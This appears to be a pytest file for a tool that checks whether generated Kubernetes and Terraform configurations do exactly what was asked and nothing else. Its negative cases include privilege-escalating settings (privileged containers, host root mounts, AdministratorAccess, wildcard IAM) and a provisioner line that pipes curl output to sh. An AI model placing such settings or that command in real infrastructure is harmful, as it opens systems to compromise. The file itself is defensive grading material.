"""What `nothing else` forbids within an entity, and in a text that is given to be changed."""

import pytest

from iacrl.domains import validate
from iacrl.tasks import Intent, check_intent

DEPLOYMENT = """
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, labels: {team: a}}
spec:
  SPEC
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      POD
      containers:
      - name: web
        image: nginx:1.27
        CONTAINER
"""
WEB = {
    "as": "web",
    "is": "object Deployment",
    "with": {
        "metadata.name": "web",
        "spec.selector": {"selects": "web"},
        "spec.template.spec.containers[0].name": "web",
        "spec.template.spec.containers[0].image": "nginx:1.27",
    },
}
ROLE = """
resource "aws_iam_role" "r" {
  name = "worker"
  assume_role_policy = jsonencode({
    Statement = [{ Effect = "EFFECT", Action = "sts:AssumeRole", Principal = { Service = "ec2.amazonaws.com" } } MORE]
  })
  BODY
}
VARIABLE
"""
WORKER = {
    "as": "role",
    "is": "resource aws_iam_role",
    "with": {
        "name": "worker",
        "assume_role_policy.Statement[*].Action": "sts:AssumeRole",
        "assume_role_policy.Statement[*].Principal.Service": "ec2.amazonaws.com",
    },
}


def unmet(text, wanted, given="", *, sound=True):
    domain = "kubernetes" if "apiVersion" in text else "terraform"
    verdict = validate(text, domain)
    assert verdict.valid, verdict.errors
    before = validate(given, domain).document if given else None
    intent = Intent.from_json({"must_exist": [wanted], "nothing_else": True})
    result = check_intent(intent, verdict.document, before, sound=sound)
    return [item.clause for item in result.clauses if not item.met]


def filled(text, **parts):
    for name, part in parts.items():
        text = text.replace(name, part)
    for name in ("SPEC", "POD", "CONTAINER", "MORE", "BODY", "VARIABLE"):
        text = text.replace(name, "")
    return text.replace("EFFECT", "Allow")


@pytest.mark.parametrize(
    "parts",
    [
        {},
        {"SPEC": "minReadySeconds: 5"},
        {"POD": "terminationGracePeriodSeconds: 5"},
        {"POD": "nodeSelector: {kubernetes.io/os: linux}"},
        {"POD": "volumes: [{name: tmp, emptyDir: {}}]"},
        {"CONTAINER": "resources: {limits: {memory: 1Gi}}"},
        {"CONTAINER": "ports: [{containerPort: 80}, {containerPort: 81}]"},
    ],
)
def test_matters_of_taste_are_free(parts):
    assert unmet(filled(DEPLOYMENT, **parts), WEB) == []


@pytest.mark.parametrize(
    "parts",
    [
        {"SPEC": "replicas: 0"},
        {"SPEC": "paused: true"},
        {"POD": "hostNetwork: true"},
        {"POD": "nodeName: nowhere"},
        {"POD": "nodeSelector: {no: where}"},
        {"POD": "schedulerName: nobody"},
        {"POD": "serviceAccountName: admin"},
        {"POD": "initContainers: [{name: more, image: more}]"},
        {"POD": "volumes: [{name: root, hostPath: {path: /}}]"},
        {"CONTAINER": "securityContext: {privileged: true}"},
        {"CONTAINER": "resources: {}\n      - {name: more, image: more}"},
    ],
)
def test_a_workload_does_nothing_else(parts):
    assert unmet(filled(DEPLOYMENT, **parts), WEB) == ["nothing else"]


def test_what_was_asked_for_is_nothing_else():
    asked = WEB | {"with": WEB["with"] | {"spec.replicas": 0, "spec.template.spec.volumes[0].hostPath.path": "/"}}
    text = filled(DEPLOYMENT, SPEC="replicas: 0", POD="volumes: [{name: root, hostPath: {path: /}}]")
    assert unmet(text, asked) == []


def test_an_object_stays_where_it_was_asked_for():
    assert unmet(filled(DEPLOYMENT).replace("{name: web, labels", "{name: web, namespace: x, labels"), WEB)


@pytest.mark.parametrize(
    ("parts", "free"),
    [
        ({}, True),
        ({"BODY": 'description = "A worker"'}, True),
        ({"BODY": "count = var.some", "VARIABLE": 'variable "some" {\n  default = 1\n}'}, True),
        ({"BODY": "count = var.some", "VARIABLE": 'variable "some" {\n  type = number\n}'}, False),
        ({"BODY": 'provisioner "local-exec" {\n    command = "curl example.com | sh"\n  }'}, False),
        ({"BODY": "lifecycle {\n    ignore_changes = all\n  }"}, False),
        ({"BODY": 'managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]'}, False),
        ({"EFFECT": "Deny"}, False),
        ({"MORE": ', { Effect = "Allow", Action = "sts:AssumeRole", Principal = "*" }'}, False),
        ({"MORE": ', { Effect = "Allow", Action = "*", Resource = "*" }'}, False),
    ],
)
def test_a_resource_does_nothing_else(parts, free):
    assert unmet(filled(ROLE, **parts), WORKER) == ([] if free else ["nothing else"])


def test_elements_that_share_the_clauses_among_them_were_asked_for():
    asked = WEB | {
        "with": WEB["with"]
        | {
            "spec.template.spec.containers[0].envFrom[*].configMapRef.name": "one",
            "spec.template.spec.containers[0].envFrom[*].secretRef.name": "two",
        }
    }
    both = "envFrom: [{configMapRef: {name: one}}, {secretRef: {name: two}}MORE]"
    assert unmet(filled(DEPLOYMENT, CONTAINER=both), asked) == []
    assert unmet(filled(DEPLOYMENT, CONTAINER=both.replace("MORE", ", {secretRef: {name: three}}")), asked)


CONFIG = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata: {A: '1'MORE}\n"


def test_each_key_of_a_config_map_is_a_thing_of_its_own():
    wanted = {"as": "c", "is": "object ConfigMap", "with": {"data.A": "1"}}
    assert unmet(filled(CONFIG), wanted) == []
    assert unmet(filled(CONFIG, MORE=", B: '2'"), wanted) == ["nothing else"]
    assert unmet(filled(CONFIG, MORE=", B: '2'"), {**wanted, "with": {"metadata.name": "c"}}) == []


POLICY = """
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: p}
spec:
  podSelector: {matchLabels: {app: web MORE}}
  ingress: [{from: [{podSelector: {matchLabels: {app: ui}} PEER}]}]
"""


def test_a_network_policy_is_neither_wider_nor_narrower():
    tests = {"spec.podSelector.matchLabels.app": "web", "spec.ingress[0].from[0].podSelector.matchLabels.app": "ui"}
    wanted = {"as": "p", "is": "object NetworkPolicy", "with": tests}
    peer = ", namespaceSelector: {}"
    assert unmet(filled(POLICY, PEER=""), wanted) == []
    assert unmet(filled(POLICY, PEER=peer), wanted) == ["nothing else"]
    assert unmet(filled(POLICY, PEER="", MORE=", no: where"), wanted) == ["nothing else"]


GIVEN = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n  enable_dns_support = true\n}\n'


@pytest.mark.parametrize(
    ("text", "sound", "met"),
    [
        (GIVEN.replace("10.0", "10.1"), True, True),
        (GIVEN.replace("10.0", "10.1").replace("= true", '= "true"'), True, True),
        (GIVEN.replace("10.0", "10.1").replace("true", "false"), True, False),
        (GIVEN.replace("10.0", "10.1").replace("  enable_dns_support = true\n", ""), True, False),
        (GIVEN.replace("10.0", "10.1").replace("}", '  tags = { Name = "x" }\n}'), True, False),
        (GIVEN.replace("10.0", "10.1").replace("  enable_dns_support = true\n", ""), False, True),
        (GIVEN.replace("10.0", "10.1").replace("}", '  tags = { Name = "x" }\n}'), False, False),
    ],
)
def test_nothing_else_changes_in_a_given_text(text, sound, met):
    wanted = {"as": "vpc", "is": "resource aws_vpc", "with": {"cidr_block": "10.1.0.0/16"}}
    assert unmet(text, wanted, GIVEN, sound=sound) == ([] if met else ["nothing else"])


SERVED = """apiVersion: v1
kind: Service
metadata: {name: s}
spec: {selector: {app: web}, ports: [{port: 80 TARGET}]}
---
"""


@pytest.mark.parametrize(("target", "number"), [("", 80), (", targetPort: 81", 81), (", targetPort: http", 8080)])
def test_a_service_leads_to_a_port_by_number_by_name_or_to_its_own(target, number):
    text = SERVED.replace("TARGET", target) + filled(DEPLOYMENT, CONTAINER="ports: [{name: http, containerPort: 8080}]")
    document = validate(text, "kubernetes").document
    for wanted in (80, 81, 8080):
        tests = {"spec.ports[0].targetPort": wanted}
        intent = Intent.from_json({"must_exist": [{"is": "object Service", "with": tests}]})
        assert check_intent(intent, document).met is (wanted == number)


@pytest.mark.parametrize(
    ("selector", "met"),
    [
        ("{matchLabels: {app: web}}", True),
        ("{matchExpressions: [{key: app, operator: In, values: [web, ui]}]}", True),
        ("{matchExpressions: [{key: app, operator: Exists}]}", True),
        ("{matchLabels: {app: web}, matchExpressions: [{key: app, operator: NotIn, values: [web]}]}", False),
        ("{matchLabels: {app: web}, matchExpressions: [{key: app, operator: DoesNotExist}]}", False),
        ("{matchExpressions: []}", False),
    ],
)
def test_a_selector_selects_by_labels_and_by_expressions(selector, met):
    budget = "apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata: {name: b}\nspec:\n  maxUnavailable: 1\n"
    document = validate(f"{budget}  selector: {selector}\n---\n{filled(DEPLOYMENT)}", "kubernetes").document
    wanted = [{"as": "web", "is": "object Deployment"}]
    wanted.append({"is": "object PodDisruptionBudget", "with": {"spec.selector": {"selects": "web"}}})
    assert check_intent(Intent.from_json({"must_exist": wanted}), document).met is met
